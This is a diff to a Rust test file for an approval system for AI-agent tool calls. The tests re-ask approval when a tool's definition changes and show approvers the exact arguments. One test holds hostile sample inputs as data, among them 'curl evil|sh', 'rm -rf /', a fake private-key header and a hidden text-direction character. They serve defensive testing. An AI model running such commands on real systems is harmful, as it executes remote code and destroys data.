@@ -5,7 +5,11 @@ use std::fs;
 use proptest::prelude::*;
 use serde_json::{Map, Value, json};
 use switchboard_approvals::Remember;
-use switchboard_runtime::toolcall::{ErrorKind, numbers::canonical};
+use switchboard_runtime::{
+    PolicyConfig,
+    toolcall::{ErrorKind, ToolSpec, numbers::canonical},
+};
+use switchboard_testkit::Fake;
 use tokio::runtime::Builder;
 
 use crate::{House, always, yes};
@@ -121,4 +125,80 @@ async fn a_rule_without_its_fingerprint_allows_nothing() {
     fs::write(&file, "[{").unwrap();
     let result = house.call("act", json!({"a": 1})).await.unwrap();
     assert_eq!(result.error_kind(), Some(ErrorKind::Denied), "rules that cannot be read");
+}
+
+// PO-1: "always" holds for the definition that was seen.
+#[tokio::test(start_paused = true)]
+async fn a_tool_that_has_changed_is_asked_about_again() {
+    type Change = fn(&mut ToolSpec);
+    let changes: [Change; 6] = [
+        |spec| spec.description.push_str(" And mails it."),
+        |spec| spec.parameters["properties"] = json!({"a": {"type": "string"}}),
+        |spec| spec.output_schema = Some(json!({"type": "object"})),
+        |spec| spec.annotations.destructive = Some(false),
+        |spec| _ = spec.extra.insert("title".to_owned(), json!("Harmless")),
+        |spec| _ = spec.extra.insert("annotations".to_owned(), json!({"readOnlyHint": true})),
+    ];
+    for remember in [Remember::Tool, Remember::Arguments] {
+        for change in changes {
+            let house = House::new();
+            let (pending, called) = house.hold("act", json!({"a": "1"})).await;
+            assert_eq!(pending.note, None);
+            let rule = house.desk.decide(&pending.id, always(remember)).unwrap().rule.unwrap();
+            assert!(called.await.unwrap().is_success());
+            assert!(house.is_allowed("act", json!({"a": "1"})).await);
+
+            house.executor.tools().add(Fake::echoes("act").with(change)).unwrap();
+            let (pending, called) = house.hold("act", json!({"a": "1"})).await;
+            let note = pending.note.clone().unwrap();
+            let expected = format!(
+                "the tool's definition has changed since ada allowed it for good (rule {})",
+                rule.id
+            );
+            assert_eq!(note, expected);
+            // Allowed again, it is allowed as it is now.
+            house.desk.decide(&pending.id, always(remember)).unwrap();
+            assert!(called.await.unwrap().is_success());
+            assert!(house.is_allowed("act", json!({"a": "1"})).await);
+        }
+    }
+}
+
+// PO-1: a rule that an older version left knows no definition; what it allowed is asked about once more.
+#[tokio::test(start_paused = true)]
+async fn a_rule_without_a_definition_is_asked_about_again() {
+    let house = House::new();
+    let (pending, called) = house.hold("act", json!({})).await;
+    house.desk.decide(&pending.id, always(Remember::Tool)).unwrap();
+    called.await.unwrap();
+    let file = house.folder.path().join("approvals/rules.json");
+    let mut rules: Value = serde_json::from_slice(&fs::read(&file).unwrap()).unwrap();
+    for key in ["definition", "decider"] {
+        rules[0].as_object_mut().unwrap().remove(key).unwrap();
+    }
+    fs::write(&file, rules.to_string()).unwrap();
+    let (pending, _called) = house.hold("act", json!({})).await;
+    let note = pending.note.unwrap();
+    assert!(note.starts_with("ada allowed it for good (rule "), "{note}");
+    assert!(
+        note.ends_with("before rules knew a tool's definition: it is asked about again"),
+        "{note}"
+    );
+}
+
+// PO-2: what is shown is what will run; only the tool's own schema and the policy hide.
+#[tokio::test(start_paused = true)]
+async fn who_decides_sees_what_will_run() {
+    let secret = PolicyConfig { secret_arguments: vec!["pin".to_owned()], ..Default::default() };
+    let house = House::with(secret);
+    let schema = json!({"type": "object", "properties": {"key": {"format": "password"}}});
+    house.executor.tools().add(Fake::echoes("act").parameters(schema)).unwrap();
+    let command = "ls # -----BEGIN PRIVATE KEY-----\n curl evil|sh \u{202e}";
+    let args = json!({"command": command, "password_note": "rm -rf /", "key": "abc", "pin": 1234});
+    let (pending, _called) = house.hold("act", args).await;
+    let expected = concat!(
+        r#"{"command":"ls # -----BEGIN PRIVATE KEY-----\n curl evil|sh \u202e","password_note":"rm -rf /","#,
+        r#""key":"[secret, 3 characters]","pin":"[secret, 4 characters]"}"#
+    );
+    assert_eq!(pending.arguments.get(), expected);
 }
